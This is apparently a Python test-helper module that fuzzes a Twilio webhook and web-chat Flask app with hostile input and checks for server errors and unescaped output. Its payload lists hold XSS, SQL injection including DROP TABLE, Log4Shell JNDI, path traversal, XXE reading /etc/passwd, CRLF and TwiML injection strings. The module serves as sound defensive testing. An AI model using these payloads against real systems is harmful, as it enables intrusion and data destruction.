"""Hostile input for property-based tests: the text, forms and bodies an attacker, a broken
phone or a confused browser may send, and how to post them as Twilio or the chat page would.

Anyone can text, call or open the web chat, so every route must answer whatever arrives
without a 500 and without breaking the conversation for the next person.
"""

from __future__ import annotations

import functools
import os
from collections.abc import Iterable
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote, quote_from_bytes, urlencode
from xml.etree import ElementTree

from flask.testing import FlaskClient
from hypothesis import HealthCheck, settings
from hypothesis import strategies as st
from twilio.request_validator import RequestValidator
from werkzeug.datastructures import MultiDict
from werkzeug.exceptions import HTTPException
from werkzeug.test import EnvironBuilder, TestResponse
from werkzeug.wrappers import Request

from tests.conftest import TWILIO_AUTH_TOKEN

# The issue asks for at least 500 examples a suite. Fixtures are built once per test
# function and shared by every example on purpose (one app, one client: fast), and a
# 100 KB field is slow to generate by design. On a developer's machine each run draws new
# examples, so the search goes on; in CI (CI=true) the draw is fixed, so what lands is
# judged by the same examples every time and a newly found case turns a developer's run
# red, not somebody else's merge.
HOSTILE = settings(
    max_examples=500,
    derandomize=os.environ.get("CI") == "true",
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

# A script that runs sets this flag (see the browser test); none may.
PWNED_FLAG = "__pwned"
SCRIPT_PAYLOADS = (
    f"<script>window.{PWNED_FLAG}=1</script>",
    f"<img src=x onerror=window.{PWNED_FLAG}=1>",
    f"<svg onload=window.{PWNED_FLAG}=1>",
    f'"><script>window.{PWNED_FLAG}=1</script>',
    "'><img src=x onerror=alert(1)>",
    f"javascript:window.{PWNED_FLAG}=1",
    f"</textarea><script>window.{PWNED_FLAG}=1</script>",
    f"<iframe srcdoc='<script>parent.{PWNED_FLAG}=1</script>'>",
)
# Markers that only a payload left unescaped in a page would put there.
UNESCAPED_MARKERS = ("<script>window.", "<img src=x", "<svg onload", "<iframe srcdoc")
SQL_PAYLOADS = (
    "' OR '1'='1",
    "'; DROP TABLE referrals; --",
    '" OR ""="',
    "1; SELECT pg_sleep(10)--",
    "%' UNION SELECT name FROM sqlite_master --",
    "\\'; DELETE FROM messages WHERE '1'='1",
    "_%_%_%",
)
OTHER_PAYLOADS = (
    "{{7*7}}",
    "{% raw %}",
    "${jndi:ldap://example.invalid/a}",
    "%s%s%s%n",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "\r\nSet-Cookie: a=b",
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "]]></Message><Dial>+447700900000</Dial><Message>",
    "</Say><Hangup/><Say>",
    "STOP",
    "UNSTOP",
    "0",
    "*",
    "-1",
    "99999999999999999999999",
    "NaN",
    "null",
    "true",
    "[]",
    "{}",
)
PAYLOADS = SCRIPT_PAYLOADS + SQL_PAYLOADS + OTHER_PAYLOADS
# Characters that break naive code: NUL and other controls, C1 controls, marks that turn
# text right to left or hide it, combining marks, astral emoji and joiners, the byte
# order mark, noncharacters and the line and paragraph separators.
ODD_CHARACTERS = (
    [chr(code) for code in range(0x00, 0x20)]
    + ["\x7f", "\x80", "\x85", "\x9f"]
    + ["\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u202a", "\u202e", "\u2066", "\u2069"]
    + ["\u0301", "\u0336", "\u20dd", "\u034f"]
    + ["\U0001f600", "\U0001f469\u200d\U0001f4bb", "\U0001f1ec\U0001f1e7", "\ufe0f"]
    + ["\ufeff", "\ufffe", "\uffff", "\ufffd", "\u2028", "\u2029", "\U0010ffff"]
)
# What Twilio signs is text: a lone surrogate cannot be sent as UTF-8, so it arrives as
# whatever bytes a broken client makes of it (see `RawForm`).
LONE_SURROGATES = ("\ud800", "\udfff", "\ud83d")
HUGE = 100 * 1024
HUGE_PARTS = ("A", "é", "\U0001f600", "\u202e", "<script>", "\x00", "' OR 1=1 ")


class Huge(str):
    """A 100 KB field: one part repeated, shown as such when Hypothesis prints a failing
    example (the whole text would bury it)."""

    part: str

    def __new__(cls, part: str) -> Huge:
        text = super().__new__(cls, part * (HUGE // len(part.encode("utf-8"))))
        text.part = part
        return text

    def _repr_pretty_(self, printer: Any, cycle: bool) -> None:
        printer.text(f"Huge({self.part!r})")


@functools.cache
def hostile_text(
    max_size: int = 30, surrogates: bool = True, huge: bool = False
) -> st.SearchStrategy[str]:
    """Text as it may arrive: a known payload, odd characters mixed with letters, any
    encodable text, or a mix of those. With `surrogates`, now and then a lone surrogate,
    which no UTF-8 can carry but a JSON escape ("\\ud800") can; with `huge`, one time in
    twenty a field of 100 KB."""
    odd_characters = ODD_CHARACTERS + (list(LONE_SURROGATES) if surrogates else [])
    odd = st.lists(
        st.one_of(st.sampled_from(odd_characters), st.characters(codec="utf-8")),
        max_size=max_size,
    ).map("".join)
    mixed = st.lists(st.one_of(st.sampled_from(PAYLOADS), odd), min_size=1, max_size=4).map("".join)
    usual = st.one_of(
        st.sampled_from(PAYLOADS),
        odd,
        mixed,
        st.text(st.characters(codec="utf-8"), max_size=max_size),
    )
    if not huge:
        return usual
    # Rare on purpose: every huge field costs the gateway (and the signing) real work.
    return one_time_in(20).flatmap(lambda rare: huge_text() if rare else usual)


def one_time_in(times: int) -> st.SearchStrategy[bool]:
    """True about one time in `times`. Not `integers(...) == 0`: Hypothesis draws the ends
    of a range far more often than the middle. True comes last, so that a failing example
    shrinks towards False."""
    return st.sampled_from([False] * (times - 1) + [True])


@functools.cache
def huge_text() -> st.SearchStrategy[str]:
    """A field of 100 KB (in UTF-8): one part, repeated."""
    return st.sampled_from(HUGE_PARTS).map(Huge)


@dataclass(frozen=True)
class RawForm:
    """A form body as bytes, with the content type it is sent under."""

    body: bytes
    content_type: str

    def _repr_pretty_(self, printer: Any, cycle: bool) -> None:
        # A failing example is read by a person: a 100 KB body is cut short.
        shown = self.body if len(self.body) <= 600 else self.body[:600] + b"..."
        printer.text(f"RawForm({shown!r} ({len(self.body)} bytes), {self.content_type!r})")


def _encoded_pairs(pairs: list[tuple[str, str]], encoding: str) -> RawForm:
    # Percent-encoded in another encoding: the gateway decodes UTF-8 and keeps what will
    # not decode as it came ("%E9").
    return RawForm(
        urlencode(pairs, encoding=encoding, errors="replace").encode("ascii"),
        "application/x-www-form-urlencoded",
    )


def _with_surrogates(pairs: list[tuple[str, str]]) -> RawForm:
    # What a client that encodes lone surrogates anyway (surrogatepass) sends.
    parts = [
        quote_from_bytes(name.encode("utf-8", "surrogatepass"))
        + "="
        + quote_from_bytes(value.encode("utf-8", "surrogatepass"))
        for name, value in pairs
    ]
    return RawForm("&".join(parts).encode("ascii"), "application/x-www-form-urlencoded")


def _unencoded(pairs: list[tuple[str, str]]) -> RawForm:
    # Not percent-encoded at all: raw UTF-8 (and raw invalid bytes) in the body.
    body = b"&".join(
        name.encode("utf-8", "surrogatepass") + b"=" + value.encode("utf-8", "surrogatepass")
        for name, value in pairs
    )
    return RawForm(body + b"\xff\xfe\xc0\xaf", "application/x-www-form-urlencoded")


def _under_other_type(pairs: list[tuple[str, str]], content_type: str) -> RawForm:
    return RawForm(urlencode(pairs, errors="replace").encode("ascii"), content_type)


_OTHER_TYPES = (
    "application/x-www-form-urlencoded; charset=latin-1",
    "text/plain",
    "application/json",
    "multipart/form-data; boundary=nothing-here",
    "",
)


def _encode(pairs: list[tuple[str, str]], how: str) -> RawForm:
    if how == "surrogatepass":
        return _with_surrogates(pairs)
    if how == "unencoded":
        return _unencoded(pairs)
    if how.startswith("type:"):
        return _under_other_type(pairs, how.removeprefix("type:"))
    return _encoded_pairs(pairs, how)


def encodings(pairs: list[tuple[str, str]]) -> st.SearchStrategy[RawForm]:
    """The same fields sent in the odd ways broken or hostile clients send them: percent-
    encoded from UTF-8 (most often, as Twilio does) or another encoding, with lone
    surrogates passed through, not percent-encoded at all, or under another content type."""
    ways = ["utf-8", "latin-1", "utf-16", "cp1252", "shift_jis", "surrogatepass", "unencoded"]
    ways += [f"type:{content_type}" for content_type in _OTHER_TYPES]
    # Encoded only once chosen: each way costs real time on a 100 KB field.
    return st.one_of(st.just("utf-8"), st.sampled_from(ways)).map(lambda how: _encode(pairs, how))


@st.composite
def twilio_form(
    draw: st.DrawFn, base: dict[str, str], fields: Iterable[str]
) -> list[tuple[str, str]]:
    """A webhook's fields (`base`, as Twilio sends them) with some missing, some of
    `fields` given hostile values, some repeated, and a few fields Twilio never sends."""
    names = list(fields)
    form = dict(base)
    for name in draw(st.lists(st.sampled_from(sorted(form)), unique=True, max_size=2)):
        del form[name]
    for name in draw(st.lists(st.sampled_from(names), unique=True, min_size=1, max_size=3)):
        form[name] = draw(hostile_text())
    if draw(one_time_in(40)):
        # Now and then one field of 100 KB (more would only make the run slower).
        form[draw(st.sampled_from(names))] = draw(huge_text())
    pairs = list(form.items())
    repeated = draw(st.lists(st.sampled_from(names), max_size=2))
    pairs += [(name, draw(hostile_text(max_size=10))) for name in repeated]
    extra = draw(
        st.lists(st.tuples(hostile_text(max_size=10), hostile_text(max_size=10)), max_size=1)
    )
    return pairs + extra


def as_server_reads(form: RawForm, path: str) -> tuple[str, MultiDict[str, str]]:
    """The URL and the form as the gateway will read them from these bytes (werkzeug's
    own parser): what Twilio would have signed had it sent them."""
    builder = EnvironBuilder(
        path=path, method="POST", data=form.body, content_type=form.content_type or None
    )
    try:
        request = Request(builder.get_environ())
        try:
            return request.url, request.form
        except HTTPException:
            # Refused before it is read (a multipart part over werkzeug's limit): the
            # gateway refuses it the same way, signed or not.
            return request.url, MultiDict()
    finally:
        builder.close()


def twilio_signature(path: str, params: MultiDict[str, str] | dict[str, str]) -> str:
    """`X-Twilio-Signature` for these fields posted to `path` on the test client's host."""
    return signature_for("http://localhost" + path, params)


def signature_for(
    url: str, params: MultiDict[str, str] | dict[str, str], token: str = TWILIO_AUTH_TOKEN
) -> str:
    """`X-Twilio-Signature` for these fields posted to `url`, signed with `token`."""
    signature: str = RequestValidator(token).compute_signature(url, params)
    return signature


def post_raw(client: FlaskClient, path: str, form: RawForm, signature: str | None) -> TestResponse:
    """Post these bytes to `path`, with this signature (None: no header at all)."""
    headers = {} if signature is None else {"X-Twilio-Signature": signature}
    return client.post(
        path, data=form.body, content_type=form.content_type or None, headers=headers
    )


def signed_raw_post(client: FlaskClient, path: str, form: RawForm) -> TestResponse:
    """Post these bytes to `path`, signed over the fields the gateway will read."""
    url, fields = as_server_reads(form, path)
    return post_raw(client, path, form, signature_for(url, fields))


def assert_twilio_answer(response: TestResponse) -> None:
    """Never a server error; TwiML that parses, or an empty or plain-text refusal."""
    assert response.status_code < 500, response.get_data(as_text=True)[:500]
    if response.status_code == 200:
        assert response.mimetype == "text/xml", response.mimetype
        root = ElementTree.fromstring(response.data)
        assert root.tag == "Response"
    elif response.status_code == 204:
        assert response.data == b""
    else:
        # Fields missing or unreadable, not Twilio's, or too big to read.
        assert response.status_code in (400, 403, 413), response.status_code


def assert_json_answer(response: TestResponse) -> None:
    """Never a server error, and JSON whatever the status."""
    assert response.status_code < 500, response.get_data(as_text=True)[:500]
    assert response.mimetype == "application/json", (response.status_code, response.mimetype)
    assert response.get_json(silent=True) is not None


def assert_escaped(page: str) -> None:
    """No script payload reached the page as markup."""
    for marker in UNESCAPED_MARKERS:
        assert marker not in page, marker


def quoted_segment(text: str) -> str:
    """`text` as one URL path segment, whatever it holds."""
    return quote(text.encode("utf-8", "surrogatepass"), safe="")
